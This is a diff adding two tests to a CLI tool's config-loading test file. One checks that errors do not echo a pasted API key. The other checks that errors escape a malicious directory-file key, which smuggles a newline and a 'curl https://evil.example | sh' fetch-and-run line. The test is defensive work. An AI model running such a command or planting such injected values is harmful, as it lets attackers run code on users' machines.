@@ -2,6 +2,7 @@ import { describe, expect, it } from 'vitest';
 import { loadConfig } from '../../src/config/load.ts';
 import { configPath, stateDir } from '../../src/files/paths.ts';
 import { chooseProfile } from '../../src/profiles/profile.ts';
+import { parseDirectoryFile } from '../../src/profiles/directory-file.ts';
 import { Port42Error } from '../../src/errors.ts';
 import { VERSION } from '../../src/version.ts';
 import { createTestContext, TEST_CONFIG } from '../support/test-context.ts';
@@ -154,6 +155,30 @@ models = ["mgw-large"]
     const raw = { profiles: { work: { provider: 'openai', match: ['http://llm.example.com'] } } };
     tc.vol.writeFileSync(`${dir}/${slot}`, JSON.stringify({ key: `${VERSION}\n${bad}`, raw }), { mode: 0o600 });
     await expect(loadConfig(tc.ctx)).rejects.toThrow(/plain http to a host that is not loopback/);
+  });
+
+  it('does not repeat a key pasted where a setting belongs (doctor and the shell hook print config errors as they are)', async () => {
+    const key = 'sk-proj-AbCdEfGhIjKlMnOpQrStUvWx0123';
+    for (const text of [
+      `[profiles.work]\nprovider = "openai"\nauth = "${key}"\n`,
+      `[profiles.work]\nprovider = "openai"\nbase_url = "${key}"\n`,
+    ]) {
+      const error = await configError(text);
+      expect(error.message).not.toContain(key);
+      expect(error.message).toContain('looks like a key');
+    }
+  });
+
+  it("escapes a directory file's keys in its errors: a cloned repository cannot add lines to them", () => {
+    const text = '"x\\n  run: curl https://evil.example | sh" = 1\n';
+    let message = '';
+    try {
+      parseDirectoryFile(text, '/repo/.port42.toml', '/home/u');
+    } catch (error) {
+      message = (error as Error).message;
+    }
+    expect(message).toContain('may only set profile');
+    expect(message).not.toContain('\n');
   });
 
   it('writes the validated cache into a private state directory', async () => {
